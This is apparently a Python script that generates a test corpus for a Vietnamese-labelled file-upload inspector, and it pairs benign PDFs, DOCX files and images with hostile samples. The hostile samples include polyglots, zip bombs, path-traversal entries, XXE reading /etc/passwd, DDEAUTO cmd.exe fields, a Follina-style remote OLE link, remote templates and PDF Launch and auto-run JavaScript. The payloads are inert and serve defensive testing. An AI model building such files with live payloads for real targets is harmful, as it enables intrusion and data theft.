"""Makes the corpus in tests/data/uploads/: honest files of every kind, and hostile ones, each explained where made.

    python -m tests.data.make_uploads

An entry of CORPUS is: name of the file → what the program answers (a media type, or the code of a reason), and a
function that makes its bytes. tests/thidua/test_inspection.py looks at every one of them. Nothing here can do harm:
the scripts in these files say `alert(1)`, the programs are a few bytes of header.
"""

import io
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from PIL import Image, PngImagePlugin

from thidua.inspection.reasons import (
    BROKEN,
    DOCX,
    DYNAMIC_FORM,
    FETCHES,
    HOLDS_FILES,
    HUGE_PICTURE,
    LOCKED,
    MACROS,
    RUNS,
    SWELLS,
    TWO_IN_ONE,
    WRONG_TYPE,
)

FOLDER = Path(__file__).parent / "uploads"
PDF, JPEG, PNG = "application/pdf", "image/jpeg", "image/png"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
PHP = b"<?php echo 1; ?>"
EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 200
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100

# --- PDF


def pdf(change: Callable[[pikepdf.Pdf], None] = lambda made: None, **options) -> bytes:
    """One empty A4 page, then `change`; the same bytes each time."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(595, 842))
    change(made)
    out = io.BytesIO()
    made.save(out, deterministic_id="encryption" not in options, **options)
    return out.getvalue()


def scanned_pdf() -> bytes:
    """As a scanner makes it: a page that is one JPEG, and blanks after the end."""

    def scan(made: pikepdf.Pdf) -> None:
        picture = made.make_stream(jpeg(), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image)
        picture.Width, picture.Height, picture.BitsPerComponent = 32, 24, 8
        picture.ColorSpace, picture.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
        made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=picture))
        made.pages[0].Contents = made.make_stream(b"595 0 0 842 0 0 cm /Im0 Do")

    return pdf(scan) + b"\r\n" + b"\0" * 64


def word_pdf() -> bytes:
    """PDF/A as Word saves it: tagged, opened at its first page, notes in XMP, a link to a page on the web."""

    def dress(made: pikepdf.Pdf) -> None:
        page = made.pages[0].obj
        made.Root.OpenAction = pikepdf.Array([page, pikepdf.Name.Fit])
        made.Root.MarkInfo = pikepdf.Dictionary(Marked=True)
        made.Root.StructTreeRoot = made.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.StructTreeRoot, K=pikepdf.Dictionary(S=pikepdf.Name.P, Pg=page))
        )
        made.Root.Metadata = made.make_stream(
            b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
            b"</x:xmpmeta>",
            Type=pikepdf.Name.Metadata,
            Subtype=pikepdf.Name.XML,
        )
        page.Annots = pikepdf.Array([link("https://truong.example/"), action("GoTo", D=pikepdf.Array([page]))])

    return pdf(dress)


def action(kind: str, **more) -> pikepdf.Dictionary:
    act = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)
    rect = pikepdf.Array([0, 0, 9, 9])
    return pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rect, A=act)


def link(target: str) -> pikepdf.Dictionary:
    return action("URI", URI=pikepdf.String(target))


def signed_pdf() -> bytes:
    """Twice appended to, as a signature does: two ends, and a field of the kind Sig."""
    first = pdf()
    offset = len(first) + 1
    body = b"9 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached>>\nendobj\n"
    start = int(first.rsplit(b"startxref\n", 1)[1].split()[0])
    root = first.rsplit(b"/Root ", 1)[1].split(b"/", 1)[0].split(b">", 1)[0].strip()
    table = b"xref\n9 1\n%010d 00000 n \ntrailer <</Size 10/Root %s/Prev %d>>\n" % (offset, root, start)
    return first + b"\n" + body + table + b"startxref\n%d\n%%%%EOF\n" % (offset + len(body))


def with_page_action(kind: str, **more) -> bytes:
    def add(made: pikepdf.Pdf) -> None:
        made.pages[0].obj.Annots = pikepdf.Array([action(kind, **more)])

    return pdf(add)


def opening_script(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def opening_address(made: pikepdf.Pdf) -> None:
    """Calls an address as soon as it is opened: who reads it tells somebody so."""
    address = pikepdf.String("https://noi-khac.example/")
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address)


def turning_address(made: pikepdf.Pdf) -> None:
    opened = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://noi-khac.example/"))
    made.pages[0].obj.AA = pikepdf.Dictionary(O=opened)


def opening_at_a_place(made: pikepdf.Pdf) -> None:
    """As many programs write it: where on which page to begin."""
    made.Root.OpenAction = pikepdf.Array([made.pages[0].obj, pikepdf.Name.Fit])


def named_script(made: pikepdf.Pdf) -> None:
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    names = pikepdf.Array([pikepdf.String("a"), script])
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def deep_script(made: pikepdf.Pdf) -> None:
    """In an action of a field, reached from no page."""
    act = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    made.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([made.make_indirect(pikepdf.Dictionary(AA=pikepdf.Dictionary(K=act)))])
    )


def embedding(made: pikepdf.Pdf) -> None:
    made.attachments["hoa-don.xml"] = pikepdf.AttachedFileSpec(made, b"<x/>", creation_date="", mod_date="")


def dynamic_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(XFA=made.make_stream(b"<xdp/>"), Fields=pikepdf.Array([]))


def locked_pdf(user: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="nguoi-giu", user=user, R=6))


def swelling_pdf() -> bytes:
    """A stream of objects that unpacks to 600 MB; qpdf unpacks it to find the objects."""
    packer = zlib.compressobj(9)
    packed = packer.compress(b"6 0 <<>>")
    for _ in range(600):
        packed += packer.compress(b" " * 1024 * 1024)
    packed = zlib.compress(packed + packer.flush(), 9)
    head = b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n" % len(packed)
    pages = b"1 0 obj\n<</Type/Catalog/Pages 6 0 R>>\nendobj\n"
    start = b"%PDF-1.7\n"
    stream_at = len(start) + len(pages)
    body = start + pages + head + packed + b"\nendstream\nendobj\n"
    rows = [(0, 0, 255), (1, len(start), 0), (0, 0, 0), (0, 0, 0), (0, 0, 0), (1, stream_at, 0), (2, 5, 0)]
    rows.append((1, len(body), 0))
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    xref = b"7 0 obj\n<</Type/XRef/Size 8/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return body + xref + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def nested_pdf() -> bytes:
    """Arrays in arrays, ten thousand deep: a reader that recurses falls off its stack."""
    deep = b"[" * 10_000 + b"]" * 10_000
    return pdf().replace(b"/Type /Page ", b"/Deep %s /Type /Page " % deep)


# --- DOCX

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
BODY = "<w:p><w:r><w:t>Báo cáo thành tích</w:t></w:r></w:p>"
OUTSIDE = {True: 'TargetMode="External"', False: ""}
NO_ENTRIES: dict[str, bytes] = {}


def xml(text: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{text}'.encode()


def rels(*relations: tuple[str, str, bool]) -> bytes:
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{R}/{kind}" Target="{target}" {OUTSIDE[outside]}/>'
        for n, (kind, target, outside) in enumerate(relations, 1)
    )
    return xml(f'<Relationships xmlns="{PACKAGE}/relationships">{rows}</Relationships>')


def types(main: str = MAIN, *more: str) -> bytes:
    defaults = "".join(
        f'<Default Extension="{ending}" ContentType="{kind}"/>'
        for ending, kind in (
            ("rels", "application/vnd.openxmlformats-package.relationships+xml"),
            ("xml", "application/xml"),
            ("png", PNG),
            ("jpeg", JPEG),
        )
    )
    parts = f'<Override PartName="/word/document.xml" ContentType="{main}"/>' + "".join(more)
    return xml(f'<Types xmlns="{PACKAGE}/content-types">{defaults}{parts}</Types>')


def document(body: str = BODY, before: str = "") -> bytes:
    return xml(f'{before}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>')


def parts(**changed: bytes) -> dict[str, bytes]:
    """The entries of a small document; keywords: types, root, document, relations."""
    return {
        "[Content_Types].xml": changed.get("types", types()),
        "_rels/.rels": changed.get("root", rels(("officeDocument", "word/document.xml", False))),
        "word/document.xml": changed.get("document", document()),
        "word/_rels/document.xml.rels": changed.get("relations", rels(("styles", "styles.xml", False))),
        "word/styles.xml": xml(f'<w:styles xmlns:w="{W}"/>'),
    }


def packed(entries: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED, comment: bytes = b"") -> bytes:
    """A zip with the date 1980, so that the bytes are the same each time."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        archive.comment = comment
        for name, content in entries.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return out.getvalue()


def docx(more: dict[str, bytes] = NO_ENTRIES, **changed: bytes) -> bytes:
    return packed(parts(**changed) | more)


def word_docx() -> bytes:
    """Word: many parts, two pictures, links to the web and into the document, a page number, a table of contents."""
    body = (
        BODY + '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>Trang của Trường</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK </w:instrText></w:r>'
        '<w:r><w:instrText>"https://truong.example" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    links = (
        ("styles", "styles.xml", False),
        ("image", "media/image1.png", False),
        ("hyperlink", "https://truong.example/", True),
        ("hyperlink", "mailto:lan@truong.example", True),
    )
    more = {
        "word/media/image1.png": png(),
        "word/media/image2.jpeg": jpeg(),
        "word/settings.xml": xml(f'<w:settings xmlns:w="{W}"/>'),
        "word/theme/theme1.xml": xml("<a:theme xmlns:a='urn:a'/>"),
        "word/fontTable.xml": xml(f'<w:fonts xmlns:w="{W}"/>'),
        "docProps/core.xml": xml("<cp:coreProperties xmlns:cp='urn:c'/>"),
        "docProps/app.xml": xml("<Properties/>"),
        "customXml/item1.xml": xml("<b:Sources xmlns:b='urn:b'/>"),
    }
    return docx(more, document=document(body), relations=rels(*links))


def libreoffice_docx() -> bytes:
    """LibreOffice: the types last, the root relations first, entries for folders."""
    made = parts()
    order = ["_rels/.rels", "word/_rels/document.xml.rels", "word/document.xml", "word/styles.xml"]
    return packed(
        {"word/": b""} | {name: made[name] for name in order} | {"[Content_Types].xml": made["[Content_Types].xml"]}
    )


def google_docx() -> bytes:
    """Google: nothing but the document, stored without compression."""
    keep = ("word/document.xml", "[Content_Types].xml", "_rels/.rels")
    return packed({name: content for name, content in parts().items() if name in keep}, method=zipfile.ZIP_STORED)


def field(codes: list[str]) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return document(f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>')


def encrypted_zip() -> bytes:
    """The bit that says “encrypted”, set in both headers of the first entry."""
    content = bytearray(docx())
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def twice_named() -> bytes:
    """Two entries of one name: one program reads the first, another the last. Case differs, the place does not."""
    return docx({"word/Document.xml": document("<w:p/>")})


def overlapping() -> bytes:
    """Many entries of the directory that share the bytes of one: small file, large sum."""
    content = docx({"word/media/big.bin": bytes(900_000)})
    directory, end = content.index(b"PK\x01\x02"), content.rindex(b"PK\x05\x06")
    entries = content[directory:end]
    last = entries[entries.rindex(b"PK\x01\x02") :]
    copies = b"".join(last.replace(b"big.bin", b"b%02d.bin" % n) for n in range(60))
    count = struct.unpack_from("<H", content, end + 10)[0] + 60
    made = content[:directory] + entries + copies
    size = len(entries) + len(copies)
    return made + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, size, directory, 0)


def lying_size() -> bytes:
    """The directory says ten bytes, the stream holds a megabyte."""
    content = bytearray(docx({"word/long.xml": b" " * 1_000_000}))
    at = content.rindex(b"word/long.xml") - 46
    struct.pack_into("<L", content, at + 24, 10)
    return bytes(content)


# --- pictures


def picture() -> Image.Image:
    return Image.linear_gradient("L").resize((32, 24)).convert("RGB")


def jpeg(**options) -> bytes:
    out = io.BytesIO()
    picture().save(out, "JPEG", **options)
    return out.getvalue()


def phone_jpeg() -> bytes:
    """A phone's photograph: camera data with a place, progressive, and a second, smaller picture after the end."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Hãng Mẫu", "Máy Mẫu"
    exif.get_ifd(0x8825)[1] = "N"
    return jpeg(exif=exif, progressive=True) + jpeg() + b"\0" * 300 + b"SEFT"


def png(**options) -> bytes:
    out = io.BytesIO()
    picture().save(out, "PNG", **options)
    return out.getvalue()


def noted(text: str, *, zipped: bool) -> PngImagePlugin.PngInfo:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", text, zip=zipped)
    return notes


def screenshot_png() -> bytes:
    return png(pnginfo=noted("Ảnh màn hình 20/12/2022", zipped=True), dpi=(96, 96))


def vast_png() -> bytes:
    """30,000 × 30,000 points of nothing in a few hundred bytes: 2.7 GB for whoever draws it."""
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in chunks
    )


def vast_jpeg() -> bytes:
    """The same as a JPEG: only the header says so."""
    content = jpeg()
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">HH", 60_000, 60_000) + content[at + 4 :]


def jar() -> bytes:
    return packed({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "A.class": b"\xca\xfe\xba\xbe"})


GIF = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
LAUNCH = {"F": pikepdf.String("calc.exe")}
XXE = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]>'
OBJECT = ("oleObject", "embeddings/oleObject1.bin", False)

CORPUS: dict[str, tuple[str, Callable[[], bytes]]] = {
    # Honest files
    "plain.pdf": (PDF, pdf),
    "open-at-a-place.pdf": (PDF, lambda: pdf(opening_at_a_place)),
    "scanner.pdf": (PDF, scanned_pdf),
    "word-pdfa.pdf": (PDF, word_pdf),
    "signed.pdf": (PDF, signed_pdf),
    "may-not-be-edited.pdf": (PDF, lambda: locked_pdf("")),  # opens without a password
    "word.docx": (DOCX, word_docx),
    "libreoffice.docx": (DOCX, libreoffice_docx),
    "google.docx": (DOCX, google_docx),
    "phone.jpg": (JPEG, phone_jpeg),
    "screenshot.png": (PNG, screenshot_png),
    # Two files in one: what we show as a paper, something else runs
    "pdf-and-zip.pdf": (TWO_IN_ONE, lambda: pdf() + jar()),
    "pdf-and-html.pdf": (TWO_IN_ONE, lambda: pdf().replace(b"\n", b"\n%" + HTML + b"\n", 1)),
    "pdf-then-html.pdf": (TWO_IN_ONE, lambda: pdf() + HTML),
    "jpeg-and-html.jpg": (TWO_IN_ONE, lambda: jpeg(comment=HTML)),
    "jpeg-and-script.jpg": (TWO_IN_ONE, lambda: jpeg() + b"*/=1;</script><script>alert(1)//"),
    "jpeg-and-jar.jpg": (TWO_IN_ONE, lambda: jpeg() + jar()),
    "jpeg-and-pdf.jpg": (TWO_IN_ONE, lambda: jpeg(comment=pdf()[:200])),
    "png-and-php.png": (TWO_IN_ONE, lambda: png(pnginfo=noted(PHP.decode(), zipped=False))),
    "png-and-packed-php.png": (TWO_IN_ONE, lambda: png(pnginfo=noted(PHP.decode() * 9, zipped=True))),
    "png-then-html.png": (TWO_IN_ONE, lambda: png() + HTML),
    "docx-and-pdf.docx": (TWO_IN_ONE, lambda: packed({"a.txt": b"%PDF-1.7\n"} | parts(), method=zipfile.ZIP_STORED)),
    "docx-comment.docx": (TWO_IN_ONE, lambda: packed(parts(), comment=HTML)),
    # Something else under a good name
    "html.pdf": (WRONG_TYPE, lambda: HTML),
    "exe.pdf": (WRONG_TYPE, lambda: EXE),
    "svg.png": (WRONG_TYPE, lambda: SVG),
    "drawing.svg": (WRONG_TYPE, lambda: SVG),
    "picture.gif": (WRONG_TYPE, lambda: GIF),
    "gifar.jpg": (WRONG_TYPE, lambda: GIF + jar()),
    "jar.docx": (WRONG_TYPE, jar),
    "old-word.doc": (WRONG_TYPE, lambda: OLE),
    "sheet.docx": (WRONG_TYPE, lambda: packed({"[Content_Types].xml": types(MAIN.replace("word", "sheet"))})),
    # Word documents that do more than be read
    "macros.docx": (MACROS, lambda: docx({"word/vbaProject.bin": OLE})),
    "macros-by-type.docx": (
        MACROS,
        lambda: docx(types=types("application/vnd.ms-word.document.macroEnabled.main+xml")),
    ),
    "far-template.docx": (
        FETCHES,
        lambda: docx({"word/_rels/settings.xml.rels": rels(("attachedTemplate", "http://192.0.2.1/a.dotm", True))}),
    ),
    "far-picture.docx": (FETCHES, lambda: docx(relations=rels(("image", "http://192.0.2.1/a.png", True)))),
    "share-picture.docx": (FETCHES, lambda: docx(relations=rels(("image", "\\\\192.0.2.1\\a\\a.png", True)))),
    "follina.docx": (HOLDS_FILES, lambda: docx(relations=rels(("oleObject", "http://192.0.2.1/a.html!", True)))),
    "program-link.docx": (FETCHES, lambda: docx(relations=rels(("hyperlink", "ms-msdt:/id", True)))),
    "ole.docx": (HOLDS_FILES, lambda: docx({"word/embeddings/oleObject1.bin": OLE}, relations=rels(OBJECT))),
    "ole-elsewhere.docx": (HOLDS_FILES, lambda: docx({"word/media/image1.png": OLE})),
    "exe-inside.docx": (HOLDS_FILES, lambda: docx({"word/media/image1.png": EXE})),
    "zip-inside.docx": (HOLDS_FILES, lambda: docx({"word/media/image1.png": jar()})),
    "html-chunk.docx": (
        HOLDS_FILES,
        lambda: docx({"word/a.html": HTML}, relations=rels(("aFChunk", "a.html", False))),
    ),
    "dde.docx": (FETCHES, lambda: docx(document=field(["DDEAUTO c:\\\\windows\\\\cmd.exe"]))),
    "dde-in-pieces.docx": (FETCHES, lambda: docx(document=field(["DD", "EAU", 'TO "cmd"']))),
    "include.docx": (FETCHES, lambda: docx(document=field(['INCLUDEPICTURE "http://192.0.2.1/a"']))),
    "xxe.docx": (BROKEN, lambda: docx(document=document("<w:p>&amp;b;</w:p>", before=XXE))),
    "laughs.docx": (BROKEN, lambda: docx({"customXml/item1.xml": xml(LAUGHS + "<a>&c;</a>")})),
    # Zips that swell, lead outside, or mean two things
    "bomb-ratio.docx": (SWELLS, lambda: docx({"word/media/image1.png": bytes(30_000_000)})),
    "bomb-sum.docx": (SWELLS, lambda: docx({f"word/media/i{n}.bin": bytes(1_040_000) for n in range(101)})),
    "bomb-nested.docx": (HOLDS_FILES, lambda: docx({"word/a.bin": packed({"b": bytes(3_000_000)})})),
    "bomb-overlap.docx": (SWELLS, overlapping),
    "lying-size.docx": (BROKEN, lying_size),
    "slip.docx": (BROKEN, lambda: docx({"../../etc/cron.d/a": b"x"})),
    "slip-windows.docx": (BROKEN, lambda: docx({"C:\\a.bat": b"x"})),
    "twice-named.docx": (BROKEN, twice_named),
    "encrypted.docx": (LOCKED, encrypted_zip),
    "password.docx": (LOCKED, lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    # PDFs that do more than be read
    "open-script.pdf": (RUNS, lambda: pdf(opening_script)),
    "open-script-packed.pdf": (
        RUNS,
        lambda: pdf(opening_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "open-address.pdf": (RUNS, lambda: pdf(opening_address)),
    "turn-address.pdf": (RUNS, lambda: pdf(turning_address)),
    "named-script.pdf": (RUNS, lambda: pdf(named_script)),
    "field-script.pdf": (RUNS, lambda: pdf(deep_script)),
    "launch.pdf": (RUNS, lambda: with_page_action("Launch", **LAUNCH)),
    "script-link.pdf": (RUNS, lambda: with_page_action("URI", URI=pikepdf.String("javascript:alert(1)"))),
    "form-sends.pdf": (RUNS, lambda: with_page_action("SubmitForm", F=pikepdf.String("http://192.0.2.1/"))),
    "embedded.pdf": (HOLDS_FILES, lambda: pdf(embedding)),
    "xfa.pdf": (DYNAMIC_FORM, lambda: pdf(dynamic_form)),
    "password.pdf": (LOCKED, lambda: locked_pdf("mat-khau")),
    "bomb-objects.pdf": (BROKEN, swelling_pdf),
    "nested.pdf": (BROKEN, nested_pdf),
    # Cut off or damaged
    "cut.pdf": (BROKEN, lambda: pdf()[:300]),
    "no-pages.pdf": (BROKEN, lambda: b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"),
    "cut.docx": (BROKEN, lambda: docx()[:-60]),
    "damaged.docx": (BROKEN, lambda: docx().replace(docx()[400:404], b"\0\0\0\0", 1)),
    "cut.png": (BROKEN, lambda: png()[:-20]),
    "damaged.png": (BROKEN, lambda: png().replace(b"IDAT", b"IDAT\xff", 1)),
    "cut.jpg": (BROKEN, lambda: jpeg()[:-40]),
    "vast.png": (HUGE_PICTURE, vast_png),
    "vast.jpg": (HUGE_PICTURE, vast_jpeg),
}


def main() -> None:
    FOLDER.mkdir(exist_ok=True)
    for old in FOLDER.iterdir():
        old.unlink()
    for name, (_, make) in CORPUS.items():
        (FOLDER / name).write_bytes(make())
    total = sum(file.stat().st_size for file in FOLDER.iterdir())
    sys.stdout.write(f"{len(CORPUS)} files, {total} bytes\n")


if __name__ == "__main__":
    main()
